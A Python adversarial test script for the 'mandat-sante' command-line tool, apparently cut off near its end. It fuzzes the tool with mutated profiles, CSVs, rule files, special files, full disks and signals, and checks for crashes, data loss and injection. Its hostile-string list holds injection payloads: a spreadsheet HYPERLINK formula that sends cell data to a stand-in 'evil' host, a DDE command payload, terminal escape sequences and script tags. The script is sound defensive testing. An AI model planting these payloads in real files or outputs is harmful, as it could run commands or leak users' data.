#!/usr/bin/env python3
"""Adversarial sweep of the mandat-sante binary: the cases of issue 17, thousands of hostile inputs, and what
must never happen.

    python3 scripts/adversarial-sweep.py [--binary .build/release/mandat-sante] [--quick] [--seed N] [--jobs N]

Runs, from a copy of the repository's Rules/ and Profiles/ in a temporary folder:

- profile mutants (bytes deleted, inserted, flipped; values of the wrong type, huge, hexadecimal, exponent,
  control characters, guillemets; duplicate keys and set values; BOM, UTF-16, CR-only lines, deep nesting)
  given to roadmap, explain, compare;
- CSV mutants given to batch (a fresh folder, or over the results of a previous run);
- rule-base scenarios (unknown references, cycles of after and replaces, control characters, vocabularies
  without bounds, 64 heavy boosts, a 3 MB file of unknown levers) × check, test, coverage, rules, roadmap,
  explain, schema;
- special files: FIFOs, devices, symbolic-link loops and broken links, folders, /proc files, as inputs and
  outputs; standard output full, closed, or cut by the reader; standard error full;
- outputs that would destroy an input (the profile, the vocabulary, the CSV of a batch, through a hard or a
  symbolic link), symbolic links, modes, owners, 250-byte names;
- full disks (a small tmpfs, when the sweep may mount one) under roadmap --output, init and batch;
- signals (TERM, INT, HUP, QUIT, KILL) at random moments of a batch, and of init;
- injection payloads (spreadsheet formulas, Markdown, HTML, terminal escape sequences) in every format;
- init sessions typed at random (arrow keys, control characters, numbers in every notation, end of input);
- inputs that used to take minutes (20,000 duplicate values, 4,000 unknown keys, 1,000 unknown levers).

and counts: cases, crashes (a signal, « Fatal error », a backtrace), hangs (no end within the time limit), data
lost (an input, a previous result or a device changed or removed when it must not), injections through (a
control character on a terminal stream or in a text output, a CSV cell that a spreadsheet would run, Markdown
or HTML structure from a value), and unexpected outcomes (an exit code outside the documented ones, a file left
half written, a temporary file left behind). Exit code 0 when all of these are zero, 1 otherwise.
"""
import argparse
import concurrent.futures
import json
import os
import random
import re
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import recommendation_md  # noqa: E402  (beside this script)

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
CRASH_SIGNS = ("Fatal error", "Program crashed", "Stack dump", "Segmentation fault", "Illegal instruction",
               "Backtracing", "AddressSanitizer")
DOCUMENTED = {0, 1, 2, 3, 4, 129, 130, 131, 143}
# A control character a terminal would obey; a carriage return only when it is not part of a CRLF line end.
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\x80-\x9f]|\r(?!\n)")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


class Tally:
    def __init__(self):
        self.lock = threading.Lock()
        self.cases = 0
        self.by_kind = {}
        self.problems = {"crash": [], "hang": [], "lost": [], "injection": [], "unexpected": []}

    def case(self, kind):
        with self.lock:
            self.cases += 1
            self.by_kind[kind] = self.by_kind.get(kind, 0) + 1

    def problem(self, what, description):
        with self.lock:
            self.problems[what].append(description)


TALLY = Tally()


class Result:
    def __init__(self, code, out, err, hung, elapsed):
        self.code, self.out, self.err, self.hung, self.elapsed = code, out, err, hung, elapsed


def run(binary, args, cwd, stdin=None, timeout=20, stdout=None, env=None):
    """Runs the binary; stdin is bytes (or None for /dev/null); stdout a path to write to instead of a capture."""
    start = time.monotonic()
    out_target = open(stdout, "wb") if stdout else subprocess.PIPE
    try:
        process = subprocess.Popen([binary] + args, cwd=cwd, stdin=subprocess.PIPE if stdin is not None else subprocess.DEVNULL,
                                   stdout=out_target, stderr=subprocess.PIPE, env=env, start_new_session=True)
        try:
            out, err = process.communicate(stdin, timeout=timeout)
            hung = False
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, signal.SIGKILL)
            out, err = process.communicate()
            hung = True
    finally:
        if stdout:
            out_target.close()
    return Result(process.returncode, (out or b"").decode("utf-8", "replace"), (err or b"").decode("utf-8", "replace"),
                  hung, time.monotonic() - start)


def judge(kind, label, result, expected=None, text_output=True):
    """Counts one case and files what went wrong."""
    TALLY.case(kind)
    where = f"{kind}: {label}"
    if result.hung:
        TALLY.problem("hang", where)
        return
    if result.code < 0 or any(sign in result.err for sign in CRASH_SIGNS) or result.code in (132, 133, 134, 136, 139):
        TALLY.problem("crash", f"{where} (code {result.code}) {result.err[-300:]!r}")
        return
    if CONTROL.search(result.err):
        TALLY.problem("injection", f"{where}: caractère de contrôle sur la sortie d'erreur")
    if text_output and CONTROL.search(result.out):
        TALLY.problem("injection", f"{where}: caractère de contrôle sur la sortie standard")
    allowed = expected if expected is not None else DOCUMENTED
    if result.code not in allowed:
        TALLY.problem("unexpected", f"{where}: code {result.code} (attendu {sorted(allowed)}) {result.err[-300:]!r}")


# MARK: - Workspace

class Workspace:
    def __init__(self, binary):
        self.binary = binary
        self.base = tempfile.mkdtemp(prefix="ms-sweep-")
        shutil.copytree(os.path.join(ROOT, "Rules"), os.path.join(self.base, "Rules"))
        shutil.copytree(os.path.join(ROOT, "Profiles"), os.path.join(self.base, "Profiles"))
        self.profiles = sorted(p for p in os.listdir(os.path.join(self.base, "Profiles")) if p.endswith(".json"))
        self.vocabulary = json.load(open(os.path.join(self.base, "Rules", "vocabulary.json")))
        self.counter = 0
        self.lock = threading.Lock()

    def folder(self):
        with self.lock:
            self.counter += 1
            path = os.path.join(self.base, "c%06d" % self.counter)
        os.makedirs(path)
        os.symlink(os.path.join(self.base, "Rules"), os.path.join(path, "Rules"))
        os.symlink(os.path.join(self.base, "Profiles"), os.path.join(path, "Profiles"))
        return path

    def rules_copy(self, folder):
        """A writable copy of the rules inside `folder` (replacing the link)."""
        os.remove(os.path.join(folder, "Rules"))
        shutil.copytree(os.path.join(self.base, "Rules"), os.path.join(folder, "Rules"))
        return os.path.join(folder, "Rules")

    def profile_text(self, rng):
        return open(os.path.join(self.base, "Profiles", rng.choice(self.profiles)), encoding="utf-8").read()

    def close(self):
        shutil.rmtree(self.base, ignore_errors=True)


def snapshot(path):
    """Every file under `path` with its bytes (links as their target), to tell if anything changed."""
    result = {}
    for directory, folders, files in os.walk(path):
        for name in files + [f for f in folders if os.path.islink(os.path.join(directory, f))]:
            full = os.path.join(directory, name)
            rel = os.path.relpath(full, path)
            if os.path.islink(full):
                result[rel] = ("link", os.readlink(full))
            else:
                try:
                    info = os.lstat(full)
                    result[rel] = ("file", open(full, "rb").read() if stat.S_ISREG(info.st_mode) else stat.S_IFMT(info.st_mode), stat.S_IMODE(info.st_mode))
                except OSError as error:
                    result[rel] = ("error", str(error))
    return result


def leftovers(path):
    """Temporary files or staging folders left in `path`."""
    found = []
    for directory, folders, files in os.walk(path):
        for name in files + folders:
            if name.startswith(".ms-") or re.match(r"^\..*\.\d+\.tmp$", name):
                found.append(os.path.join(directory, name))
    return found


# MARK: - Profiles

HOSTILE_STRINGS = [
    "\x1b[2J\x1b[H", "\x1b]52;c;ZXZpbA==\x07", "\x1b]0;titre\x07", "\x9b31m", "A\u202egpj.exe", "=HYPERLINK(\"http://evil/?\"&A1;\"x\")",
    "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1+1", "\t=1+1", "``` code", "- item\n- item", "# Titre", "<script>alert(1)</script>",
    "[x](javascript:alert(1))", "»" + "x" * 5000, "A\nB", "A\r\nB", "   ", "", "\u0000", "x" * 300, "&copy;", "|a|b|",
]
HOSTILE_NUMBERS = ["1e308", "-1e308", "1e999", "0x10", "NaN", "Infinity", "-0", "12.5", "3000001", "-1", "1" * 80, "0.0000001"]


def mutate_profile(text, rng):
    data = text.encode("utf-8")
    choice = rng.randrange(14)
    if choice == 0 and data:  # delete a byte run
        i = rng.randrange(len(data)); return data[:i] + data[i + rng.randint(1, 8):]
    if choice == 1:  # insert random bytes
        i = rng.randrange(len(data) + 1); return data[:i] + bytes(rng.randrange(256) for _ in range(rng.randint(1, 6))) + data[i:]
    if choice == 2 and data:  # flip a byte
        i = rng.randrange(len(data)); return data[:i] + bytes([data[i] ^ (1 << rng.randrange(8))]) + data[i + 1:]
    try:
        obj = json.loads(text)
    except ValueError:
        return data
    keys = [k for k in obj if not k.startswith("$")]
    if choice == 3:
        obj[rng.choice(keys)] = rng.choice(HOSTILE_STRINGS)
    elif choice == 4:
        obj[rng.choice(keys)] = rng.choice([None, True, [], {}, 3.5, -7, "oui", [1, 2]])
    elif choice == 5:
        body = json.dumps(obj, ensure_ascii=False)
        return body.replace('"population": ', '"population": ' + rng.choice(HOSTILE_NUMBERS) + ", \"_x\": ", 1).encode()
    elif choice == 6:
        obj["priorities"] = ["acces-aux-soins"] * rng.choice([2, 50, 3000])
    elif choice == 7:
        for i in range(rng.choice([1, 50, 2000])):
            obj[rng.choice(HOSTILE_STRINGS[:6]) + str(i)] = i
    elif choice == 8:
        return b"\xef\xbb\xbf" + text.encode("utf-8") if rng.random() < 0.5 else b"\xff\xfe" + text.encode("utf-16-le")
    elif choice == 9:
        return text.replace("\n", "\r").encode()
    elif choice == 10:
        depth = rng.choice([100, 129, 10000])
        return ("[" * depth + "]" * depth).encode()
    elif choice == 11:
        obj["name"] = rng.choice(HOSTILE_STRINGS)
        obj[rng.choice(keys)] = rng.choice(HOSTILE_STRINGS)
    elif choice == 12:
        return text.encode("latin-1", "replace")
    else:
        body = json.dumps(obj, ensure_ascii=False)
        return (body[:-1] + ', "name": "double"}').encode()
    return json.dumps(obj, ensure_ascii=rng.random() < 0.5).encode("utf-8")


def profile_case(ws, rng, index):
    folder = ws.folder()
    path = os.path.join(folder, "p.json")
    data = mutate_profile(ws.profile_text(rng), rng)
    open(path, "wb").write(data)
    command = rng.choice(["roadmap", "roadmap", "roadmap-md", "roadmap-csv", "roadmap-html", "explain", "compare"])
    args = {"roadmap": ["roadmap", "p.json"], "roadmap-md": ["roadmap", "p.json", "-f", "markdown"],
            "roadmap-csv": ["roadmap", "p.json", "-f", "csv"], "roadmap-html": ["roadmap", "p.json", "-f", "html"],
            "explain": ["explain", "p.json", "cls-engager"], "compare": ["compare", "p.json", "--set", "cls=en-vigueur"]}[command]
    result = run(ws.binary, args + ["--start", "2026-12"], folder)
    judge("profils", f"#{index} {command} {data[:60]!r}", result, {0, 2, 3}, text_output=command != "roadmap-html")
    check_injection_in_output(command, result.out, f"profils #{index}")
    if open(path, "rb").read() != data:
        TALLY.problem("lost", f"profils #{index}: le profil a changé")
    shutil.rmtree(folder, ignore_errors=True)


def check_injection_in_output(command, out, label):
    if command == "roadmap-csv":
        for line in out.split("\r\n")[1:]:
            for cell in split_csv_line(line):
                if cell.lstrip(" ").startswith(FORMULA_START) and not re.fullmatch(r"[+-]?\d+([.,]\d+)?", cell):
                    TALLY.problem("injection", f"{label}: cellule CSV exécutable {cell[:60]!r}")
    elif command == "roadmap-md":
        for line in out.split("\n"):
            if line.startswith("```") or line.startswith("<script") or "](javascript" in line:
                TALLY.problem("injection", f"{label}: structure Markdown venue d'une valeur {line[:60]!r}")
    elif command == "roadmap-html":
        if "<script" in out.lower():
            TALLY.problem("injection", f"{label}: <script> dans le HTML")


def split_csv_line(line, separator=";"):
    cells, cell, quoted, i = [], "", False, 0
    while i < len(line):
        c = line[i]
        if quoted:
            if c == '"' and i + 1 < len(line) and line[i + 1] == '"':
                cell += '"'; i += 1
            elif c == '"':
                quoted = False
            else:
                cell += c
        elif c == '"' and not cell:
            quoted = True
        elif c == separator:
            cells.append(cell); cell = ""
        else:
            cell += c
        i += 1
    cells.append(cell)
    return cells


# MARK: - CSV

CSV_HEADER = "name;kind;population;density;priorities;share75Plus"


def csv_row(rng):
    cells = [rng.choice(["Saint-Aubin", "Bourg", rng.choice(HOSTILE_STRINGS)]), rng.choice(["commune", "metropole", "village", ""]),
             rng.choice(["900", "12 400", "0x10", "1e3", "-3", "douze", "", "12,5"]), rng.choice(["bourg-rural", "Bourg rural", "x"]),
             rng.choice(["", "prevention", "prevention|prevention", "a,,b", "acces-aux-soins|sante-mentale"]),
             rng.choice(["", "15,5", "1e308", "nan", "150"])]
    return ";".join('"' + c.replace('"', '""') + '"' if rng.random() < 0.3 else c.replace(";", ",") for c in cells)


def mutate_csv(rng):
    rows = [CSV_HEADER] + [csv_row(rng) for _ in range(rng.randint(0, 30))]
    text = rng.choice(["\n", "\r\n", "\r"]).join(rows) + "\n"
    data = text.encode("utf-8")
    choice = rng.randrange(6)
    if choice == 0 and data:
        i = rng.randrange(len(data)); data = data[:i] + bytes(rng.randrange(256) for _ in range(3)) + data[i:]
    elif choice == 1:
        data = text.encode("utf-16-le") if rng.random() < 0.5 else b"\xef\xbb\xbf" + data
    elif choice == 2:
        data = data.replace(b";", b",", rng.randint(0, 5))
    elif choice == 3:
        data += b'"unclosed'
    return data


def csv_case(ws, rng, index):
    folder = ws.folder()
    data = mutate_csv(rng)
    open(os.path.join(folder, "t.csv"), "wb").write(data)
    output = os.path.join(folder, "sortie")
    previous = None
    if rng.random() < 0.4:
        good = CSV_HEADER + "\n" + "\n".join(f"Commune {i};commune;{900 + i};bourg-rural;;" for i in range(rng.randint(1, 8))) + "\n"
        open(os.path.join(folder, "bon.csv"), "w").write(good)
        run(ws.binary, ["batch", "bon.csv", "-o", "sortie", "--start", "2026-12"], folder)
        previous = snapshot(output)
    result = run(ws.binary, ["batch", "t.csv", "-o", "sortie", "--start", "2026-12", "--jobs", str(rng.randint(1, 3))], folder)
    judge("csv", f"#{index} {data[:60]!r}", result, {0, 3, 4})
    if leftovers(folder):
        TALLY.problem("unexpected", f"csv #{index}: fichiers temporaires laissés {leftovers(folder)}")
    if previous is not None and result.code not in (0, 3):
        if snapshot(output) != previous:
            TALLY.problem("lost", f"csv #{index}: un lancement en échec a changé les résultats précédents")
    if os.path.isdir(output) and result.code in (0, 3) and os.path.exists(os.path.join(output, "synthese.csv")):
        check_batch_folder(output, f"csv #{index}")
    shutil.rmtree(folder, ignore_errors=True)


def check_batch_folder(output, label):
    """synthese.csv holds no runnable cell, and the roadmaps in the folder are exactly those resume.txt counts."""
    synthesis = open(os.path.join(output, "synthese.csv"), encoding="utf-8-sig").read()
    for line in synthesis.split("\r\n")[1:]:
        for cell in split_csv_line(line):
            if cell.lstrip(" ").startswith(FORMULA_START) and not re.fullmatch(r"[+-]?\d+([.,]\d+)?", cell):
                TALLY.problem("injection", f"{label}: cellule de synthese.csv exécutable {cell[:60]!r}")
    summary = open(os.path.join(output, "resume.txt"), encoding="utf-8").read().replace("\u00a0", " ").replace("\n", " ")
    match = re.search(r":\s*([\d ]+) feuilles? de\s+route\s+écrites?", summary)
    roadmaps = [n for n in os.listdir(output) if re.match(r"^\d{3,}-", n)]
    if match and int(match.group(1).replace(" ", "")) != len(roadmaps):
        TALLY.problem("unexpected", f"{label}: resume.txt compte {match.group(1)} feuilles de route, le dossier {len(roadmaps)}")


# MARK: - Rule bases

def rule_scenarios(ws, rng):
    rec = {"id": "zz-base", "title": "Engager un contrat local de santé avec l'ARS", "lever": "coordination",
           "when": "cls != 'en-vigueur'", "priority": 80, "horizon": "annee-1", "effort": "moyen", "carrier": "territoire",
           "why": "Le contrat local de santé est l'outil du dialogue avec l'ARS.", "steps": ["Rencontrer l'ARS.", "Lancer le diagnostic."],
           "partners": ["ARS (délégation départementale)"], "indicators": ["CLS signé (date)."],
           "sources": [{"document": "livre-blanc-2026", "section": "La coordination"}]}

    def rec_with(**changes):
        r = json.loads(json.dumps(rec)); r.update({"after": [], "replaces": [], "excludes": []}); r.update(changes); return r

    scenarios = {
        "levier-inconnu": [rec_with(id="zz-a", lever="levier-qui-n-existe-pas")],
        "after-inconnu": [rec_with(id="zz-a", after=["inconnue"])],
        "cycle-after": [rec_with(id="zz-a", after=["zz-b"]), rec_with(id="zz-b", after=["zz-a"])],
        "cycle-replaces-3": [rec_with(id="zz-a", replaces=["zz-b"]), rec_with(id="zz-b", replaces=["zz-c"]), rec_with(id="zz-c", replaces=["zz-a"])],
        "titre-echappement": [rec_with(id="zz-a", title="Titre \u001b[2J\u001b]0;x\u0007")],
        "titre-formule": [rec_with(id="zz-a", title="=HYPERLINK(\"http://evil\")", when="true")],
        "titre-markdown": [rec_with(id="zz-a", title="``` # <script>alert(1)</script>", when="true")],
        "condition-fausse": [rec_with(id="zz-a", when="population < 1")],
        "condition-illisible": [rec_with(id="zz-a", when="(((" * 30 + "population")],
        "64-bonus": [rec_with(id="zz-a", boosts=[{"when": "engineeringStaff in [" + ", ".join(map(str, range(1, 21))) + "] and population in ["
                                                     + ", ".join(map(str, range(1, 21))) + f"] and share75Plus >= 20 and population != {i + 100}",
                                                     "points": 1, "reason": f"bonus {i}"} for i in range(64)])],
        "identifiant-long": [rec_with(id="x" * 5000)],
        "milliers-leviers-inconnus": [rec_with(id=f"zz-{i}", lever=f"levier-{i}", why=rec["why"] + " " + "x" * 3000) for i in range(1000)],
    }
    vocabularies = {}
    voc = json.loads(json.dumps(ws.vocabulary))
    for fact in voc["facts"]:
        if fact["name"] == "povertyRate":
            fact.pop("max", None)
    vocabularies["vocabulaire-sans-max"] = voc
    voc2 = json.loads(json.dumps(ws.vocabulary))
    voc2["facts"][0]["label"] = "nom \u001b[2J"
    vocabularies["vocabulaire-echappement"] = voc2
    return scenarios, vocabularies


RULE_COMMANDS = [["check"], ["check", "--no-tests"], ["test"], ["coverage"], ["rules", "-f", "markdown"],
                 ["roadmap", "Profiles/village-rural-zip.json", "--start", "2026-12", "-f", "csv"], ["explain", "Profiles/village-rural-zip.json", "zz-a", "--start", "2026-12"],
                 ["schema", "profile"]]


def rule_case(ws, name, recs, vocabulary, index):
    folder = ws.folder()
    rules = ws.rules_copy(folder)
    if recs is not None:
        for rec in recs:
            # One file per recommendation, named after its id (cut to what a file system accepts).
            with open(os.path.join(rules, "recommendations", rec["id"][:200] + ".md"), "w", encoding="utf-8") as file:
                file.write(recommendation_md.to_markdown(rec))
    if vocabulary is not None:
        json.dump(vocabulary, open(os.path.join(rules, "vocabulary.json"), "w"), ensure_ascii=False)
    for command in RULE_COMMANDS:
        result = run(ws.binary, command + ["--rules", "Rules"], folder, timeout=60)
        judge("règles", f"{name} × {' '.join(command)}", result)
        if command[0] == "roadmap":
            check_injection_in_output("roadmap-csv", result.out, f"règles {name}")
        if result.elapsed > 20:
            TALLY.problem("hang", f"règles {name} × {command[0]} : {result.elapsed:.0f} s")
    shutil.rmtree(folder, ignore_errors=True)


# MARK: - Special files, outputs, streams

def special_cases(ws):
    folder = ws.folder()
    profile = os.path.join(folder, "p.json")
    shutil.copy(os.path.join(ws.base, "Profiles", "village-rural-zip.json"), profile)
    original = open(profile, "rb").read()
    os.mkfifo(os.path.join(folder, "tube"))
    os.symlink("boucle", os.path.join(folder, "boucle"))
    os.symlink("disparu", os.path.join(folder, "casse"))
    os.mkdir(os.path.join(folder, "dossier"))
    open(os.path.join(folder, "passwd"), "w").write("root:x:0:0:root:/root:/bin/bash\n")
    inputs = ["tube", "boucle", "casse", "dossier", "/dev/null", "/dev/zero", "/proc/self/mem", "/dev/stdin", "passwd", "absent.json"]
    for path in inputs:
        for command in (["roadmap", path], ["batch", path, "-o", "s"], ["test", path], ["compare", path, "p.json"], ["explain", path]):
            result = run(ws.binary, command + ["--start", "2026-12"] if command[0] in ("roadmap", "batch", "compare", "explain") else command, folder, timeout=10)
            judge("fichiers spéciaux", f"{' '.join(command)}", result, {1, 2, 3, 4})
            if "root:x" in result.err + result.out:
                TALLY.problem("injection", f"fichiers spéciaux {command}: première ligne d'un fichier quelconque citée")
    # Outputs that must never be replaced.
    os.link(profile, os.path.join(folder, "lien-dur.json"))
    os.symlink("p.json", os.path.join(folder, "lien.json"))
    for output in ["p.json", "lien-dur.json", "lien.json", "Rules/vocabulary.json"]:
        result = run(ws.binary, ["roadmap", "p.json", "--start", "2026-12", "-o", output], folder)
        judge("sorties", f"roadmap -o {output}", result, {2})
        result = run(ws.binary, ["compare", "p.json", "--set", "cls=en-vigueur", "-o", output], folder)
        judge("sorties", f"compare -o {output}", result, {2})
    result = run(ws.binary, ["schema", "profile", "-o", "Rules/vocabulary.json"], folder)
    judge("sorties", "schema -o Rules/vocabulary.json", result, {2})
    if open(profile, "rb").read() != original:
        TALLY.problem("lost", "sorties : le profil a été écrasé")
    vocabulary = os.path.join(ws.base, "Rules", "vocabulary.json")
    if json.load(open(vocabulary)) != ws.vocabulary:
        TALLY.problem("lost", "sorties : le vocabulaire a été écrasé")
    # Devices and FIFOs are streamed to, never replaced; a FIFO nobody reads is an error, not a wait.
    for device in ["/dev/null", "tube", "/dev/full"]:
        before = os.stat(device if device.startswith("/") else os.path.join(folder, device)).st_mode
        result = run(ws.binary, ["roadmap", "p.json", "--start", "2026-12", "-o", device], folder, timeout=10)
        judge("sorties", f"roadmap -o {device}", result, {0, 4})
        after = os.stat(device if device.startswith("/") else os.path.join(folder, device)).st_mode
        if stat.S_IFMT(before) != stat.S_IFMT(after):
            TALLY.problem("lost", f"sorties : {device} remplacé par un fichier ordinaire")
    # A symbolic link is written through; a mode and an owner are kept; a 250-byte name works.
    open(os.path.join(folder, "cible.txt"), "w").write("ancien")
    os.symlink("cible.txt", os.path.join(folder, "vers-cible.txt"))
    os.chmod(os.path.join(folder, "cible.txt"), 0o600)
    if os.geteuid() == 0:
        os.chown(os.path.join(folder, "cible.txt"), 1234, 5678)
    result = run(ws.binary, ["roadmap", "p.json", "--start", "2026-12", "-o", "vers-cible.txt"], folder)
    judge("sorties", "roadmap -o lien symbolique", result, {0})
    info = os.stat(os.path.join(folder, "cible.txt"))
    if not os.path.islink(os.path.join(folder, "vers-cible.txt")) or stat.S_IMODE(info.st_mode) != 0o600 or (os.geteuid() == 0 and info.st_uid != 1234):
        TALLY.problem("unexpected", "sorties : lien remplacé, ou mode ou propriétaire perdu")
    result = run(ws.binary, ["roadmap", "p.json", "--start", "2026-12", "-o", "é" * 123 + ".txt"], folder)
    judge("sorties", "roadmap -o nom de 250 octets", result, {0})
    for path in ["absent/x.txt", "dossier", "x" * 300, "p.json/x"]:
        result = run(ws.binary, ["roadmap", "p.json", "--start", "2026-12", "-o", path], folder)
        judge("sorties", f"roadmap -o {path[:20]}", result, {4})
    # Standard streams.
    shell = ws.binary.replace("'", "'\\''")
    for script, expected in [(f"'{shell}' roadmap p.json --start 2026-12 > /dev/full", {4}), (f"'{shell}' --version >&-", {4}),
                             (f"set -o pipefail; '{shell}' rules | head -c 10 > /dev/null", {0}), (f"'{shell}' roadmap absent.json 2> /dev/full", {4}),
                             (f"'{shell}' check 2>&- | head -c 1 > /dev/null", {0}), (f"'{shell}' roadmap p.json -f html --start 2026-12 | head -c 100 > /dev/null", {0})]:
        start = time.monotonic()
        process = subprocess.run(["bash", "-c", script], cwd=folder, capture_output=True, timeout=60)
        result = Result(process.returncode, "", process.stderr.decode("utf-8", "replace"), False, time.monotonic() - start)
        judge("flux standard", script.split("' ", 1)[-1], result, expected)
    if leftovers(folder):
        TALLY.problem("unexpected", f"fichiers spéciaux : fichiers temporaires laissés {leftovers(folder)}")
    shutil.rmtree(folder, ignore_errors=True)


# MARK: - Full disks

def mount_tmpfs(path, size):
    os.makedirs(path, exist_ok=True)
    return subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", path], capture_output=True).returncode == 0


def disk_cases(ws, rng, count):
    if os.geteuid() != 0:
        print("(disque plein : non testé, il faut pouvoir monter un tmpfs)")
        return
    folder = ws.folder()
    disk = os.path.join(folder, "disque")
    if not mount_tmpfs(disk, "400k"):
        print("(disque plein : non testé, mount tmpfs refusé)")
        shutil.rmtree(folder, ignore_errors=True)
        return
    try:
        for i in range(count):
            for name in os.listdir(disk):
                target = os.path.join(disk, name)
                shutil.rmtree(target) if os.path.isdir(target) and not os.path.islink(target) else os.remove(target)
            open(os.path.join(disk, "ancien.html"), "w").write("ancien")
            filler = rng.randint(0, 380) * 1024
            try:
                with open(os.path.join(disk, "remplissage"), "wb") as f:
                    f.write(b"x" * filler)
            except OSError:
                pass
            kind = rng.choice(["roadmap", "batch", "batch-previous"])
            if kind == "roadmap":
                result = run(ws.binary, ["roadmap", "Profiles/metropole-cls-clsm.json", "--start", "2026-12", "-o", "disque/ancien.html"], folder)
                judge("disque plein", f"roadmap remplissage {filler}", result, {0, 4})
                content = open(os.path.join(disk, "ancien.html"), encoding="utf-8", errors="replace").read()
                if result.code != 0 and content != "ancien":
                    TALLY.problem("lost", f"disque plein : l'ancien fichier a changé après un échec (remplissage {filler})")
                if result.code == 0 and not content.rstrip().endswith("</html>"):
                    TALLY.problem("lost", "disque plein : fichier HTML tronqué malgré le code 0")
            else:
                os.remove(os.path.join(disk, "remplissage")) if kind == "batch-previous" else None
                previous = None
                if kind == "batch-previous":
                    run(ws.binary, ["batch", "Profiles/territoires-exemple.csv", "-o", "disque/sortie", "--start", "2026-12"], folder)
                    previous = snapshot(os.path.join(disk, "sortie"))
                    try:
                        with open(os.path.join(disk, "remplissage"), "wb") as f:
                            f.write(b"x" * rng.randint(0, 200) * 1024)
                    except OSError:
                        pass
                result = run(ws.binary, ["batch", "Profiles/territoires-exemple.csv", "-o", "disque/sortie", "--start", "2026-12", "-f", "html"], folder)
                judge("disque plein", f"{kind}", result, {0, 4})
                if leftovers(disk):
                    TALLY.problem("unexpected", f"disque plein : fichiers temporaires laissés {leftovers(disk)}")
                if previous is not None and result.code != 0 and snapshot(os.path.join(disk, "sortie")) != previous:
                    TALLY.problem("lost", "disque plein : batch en échec a changé les résultats précédents")
    finally:
        subprocess.run(["umount", disk], capture_output=True)
        shutil.rmtree(folder, ignore_errors=True)


# MARK: - Signals

def signal_cases(ws, rng, count):
    folder = ws.folder()
    header = open(os.path.join(ws.base, "Profiles", "territoires-exemple.csv"), encoding="utf-8-sig").read().splitlines()
    rows = [r for r in header[1:] if r.strip()]
    open(os.path.join(folder, "gros.csv"), "w").write("\n".join([header[0]] + [rows[i % len(rows)] for i in range(3000)]) + "\n")
    for i in range(count):
        output = os.path.join(folder, "sortie")
        shutil.rmtree(output, ignore_errors=True)
        run(ws.binary, ["batch", "Profiles/territoires-exemple.csv", "-o", "sortie", "--start", "2026-12"], folder)
        previous = snapshot(output)
        sig = rng.choice([signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT, signal.SIGKILL])
        process = subprocess.Popen([ws.binary, "batch", "gros.csv", "-o", "sortie", "--start", "2026-12", "--jobs", "2"], cwd=folder,
                                   stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, start_new_session=True)
        time.sleep(rng.uniform(0.05, 3.0))
        process.send_signal(sig)
        try:
            _, err = process.communicate(timeout=30)
            hung = False
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, signal.SIGKILL); _, err = process.communicate(); hung = True
        code = process.returncode
        result = Result(code if code >= 0 else 128 - code, "", err.decode("utf-8", "replace"), hung, 0)
        expected = {128 + sig, 0, 3} if sig != signal.SIGKILL else {137}
        judge("signaux", f"batch + {signal.Signals(sig).name}", result, expected)
        now = snapshot(output)
        if sig != signal.SIGKILL and result.code != 0 and now != previous:
            TALLY.problem("lost", f"signaux : {signal.Signals(sig).name} a changé les résultats précédents")
        if sig != signal.SIGKILL and leftovers(folder):
            TALLY.problem("unexpected", f"signaux : {signal.Signals(sig).name} laisse {leftovers(folder)}")
        if sig == signal.SIGKILL:
            again = run(ws.binary, ["batch", "Profiles/territoires-exemple.csv", "-o", "sortie", "--start", "2026-12"], folder)
            judge("signaux", "batch après un KILL", again, {0})
            if leftovers(folder):
                TALLY.problem("unexpected", f"signaux : ce qu'un KILL a laissé n'est pas retiré au lancement suivant {leftovers(folder)}")
        if os.path.exists(os.path.join(output, "synthese.csv")):
            check_batch_folder(output, f"signaux {signal.Signals(sig).name}")
    # init interrupted at its first question: a clean end, no spinning.
    for sig in [signal.SIGINT, signal.SIGQUIT, signal.SIGTERM, signal.SIGHUP]:
        read_end, write_end = os.pipe()
        process = subprocess.Popen([ws.binary, "init", "-o", "profil.json"], cwd=folder, stdin=read_end, stdout=subprocess.PIPE,
                                   stderr=subprocess.PIPE, start_new_session=True)
        os.close(read_end)
        time.sleep(0.5)
        process.send_signal(sig)
        try:
            out, err = process.communicate(timeout=10)
            result = Result(process.returncode, "", err.decode("utf-8", "replace"), False, 0)
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, signal.SIGKILL); process.communicate()
            result = Result(-9, "", "", True, 0)
        os.close(write_end)
        judge("signaux", f"init + {signal.Signals(sig).name}", result, {128 + sig})
        if os.path.exists(os.path.join(folder, "profil.json")):
            TALLY.problem("unexpected", f"signaux : init interrompu a écrit un profil")
    shutil.rmtree(folder, ignore_errors=True)


# MARK: - init sessions

INIT_ANSWERS = ["", "1", "2", "13", "0", "o", "n", "oui", "12 400", "12,5", "0x10", "1e3", "1e308", "-5", "\x1b[D", "\x1b[A\x1b[B",
                "\x03", "\t", "Saint-Aubin", "»" * 300, "a" * 5000, "1,1", "1,3,5", "q", "r", "aucun", "peut-être", "\u202e"]


def init_case(ws, rng, index):
    folder = ws.folder()
    answers = [rng.choice(INIT_ANSWERS) if rng.random() < 0.35 else rng.choice(["", "1", "Bourg", "900", "5", "n", "o"]) for _ in range(rng.randint(0, 80))]
    stdin = ("\n".join(answers) + ("\n" if rng.random() < 0.7 else "")).encode("utf-8", "surrogatepass")
    result = run(ws.binary, ["init", "-o", "profil.json"], folder, stdin=stdin, timeout=20)
    judge("init", f"#{index} {len(answers)} réponses", result, {0, 2})
    written = os.path.join(folder, "profil.json")
    if result.code == 0:
        text = open(written, encoding="utf-8").read()
        if CONTROL.search(text.replace("\n", "")):
            TALLY.problem("injection", f"init #{index}: caractère de contrôle dans le profil écrit")
        check = run(ws.binary, ["roadmap", "profil.json", "--start", "2026-12"], folder)
        judge("init", f"#{index} roadmap du profil écrit", check, {0})
    elif os.path.exists(written):
        TALLY.problem("unexpected", f"init #{index}: profil écrit malgré le code {result.code}")
    if leftovers(folder):
